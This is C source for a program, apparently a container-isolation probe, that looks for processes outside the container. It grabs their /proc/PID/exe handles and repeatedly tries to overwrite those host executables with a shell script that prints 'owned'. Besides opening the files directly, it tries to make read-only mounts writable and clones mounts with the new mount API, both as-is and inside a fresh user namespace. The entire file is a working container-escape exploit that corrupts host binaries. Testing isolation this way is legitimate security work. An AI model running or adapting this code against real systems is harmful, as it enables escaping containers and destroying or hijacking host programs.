// exewriter OUTPUT: takes /proc/PID/exe of every process that is not of the container, holds it, and tries to write to the
// file, until it is killed: by opening it, and by making the mount it was reached through writable or a clone of that mount,
// as it is and in a user and mount namespace of its own. Says what succeeded, once for each.
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <linux/stat.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { most = 64 };
static FILE* out;
static int held[most], holding, next;
static unsigned long long known[most];
static char names[most][128];

static void put(const char* path, const char* text)
{
    int fd = open(path, O_WRONLY);
    if (fd >= 0) {
        if (write(fd, text, strlen(text)) < 0)
            errno = 0;
        close(fd);
    }
}

static void spoil(int fd, const char* name, const char* how)
{
    static const char text[] = "#!/bin/sh\necho owned\n";
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file < 0)
        return;
    if (pwrite(file, text, sizeof text - 1, 0) > 0) {
        fprintf(out, "written %s (%s)\n", name, how);
        fflush(out);
    }
    close(file);
}

// The mount may be read-only; its flags may be ours to change.
static void remount(int fd, const char* name, const char* how)
{
    struct mount_attr attributes = { .attr_clr = MOUNT_ATTR_RDONLY };
    char said[128];
    if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attributes, sizeof attributes) == 0) {
        snprintf(said, sizeof said, "mount made writable%s", how);
        spoil(fd, name, said);
    }
    int tree = syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC);
    if (tree >= 0) {
        syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attributes, sizeof attributes);
        snprintf(said, sizeof said, "clone of the mount made writable%s", how);
        spoil(tree, name, said);
        close(tree);
    }
}

static void tryMounts(int fd, const char* name)
{
    remount(fd, name, "");
    pid_t child = fork();
    if (child == 0) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) {
            put("/proc/self/setgroups", "deny");
            put("/proc/self/uid_map", "0 0 1");
            put("/proc/self/gid_map", "0 0 1");
            remount(fd, name, " in a user namespace");
        }
        _exit(0);
    }
    if (child > 0)
        waitpid(child, NULL, 0);
}

static void take(int pid)
{
    char path[64], target[4096];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    // The name of what is held, not of what the process was a moment ago: it may have become a program of the container's.
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length <= 0 || strncmp(target, "/bin/", 5) == 0) {
        close(fd);
        return;
    }
    target[length] = 0;
    struct statx status;
    memset(&status, 0, sizeof status);
    syscall(SYS_statx, fd, "", AT_EMPTY_PATH, STATX_BASIC_STATS | STATX_MNT_ID, &status);
    unsigned long long key = status.stx_ino << 24 ^ status.stx_mnt_id;
    for (int i = 0; i < holding; ++i)
        if (known[i] == key) {
            close(fd);
            return;
        }
    int at = next++ % most;
    if (holding < most)
        ++holding;
    else
        close(held[at]);
    snprintf(names[at], sizeof names[0], "%.127s", target);
    known[at] = key;
    held[at] = fd;
    fprintf(out, "held %s\n", target);
    fflush(out);
    tryMounts(fd, names[at]);
}

int main(int argc, char** argv)
{
    if (argc < 2 || !(out = fopen(argv[1], "a")))
        return 2;
    fprintf(out, "ready\n");
    fflush(out);
    for (;;) {
        DIR* proc = opendir("/proc");
        for (struct dirent* entry; proc && (entry = readdir(proc));)
            if (isdigit((unsigned char)*entry->d_name) && atoi(entry->d_name) != getpid())
                take(atoi(entry->d_name));
        if (proc)
            closedir(proc);
        for (int i = 0; i < holding; ++i)
            spoil(held[i], names[i], "opened");
    }
}
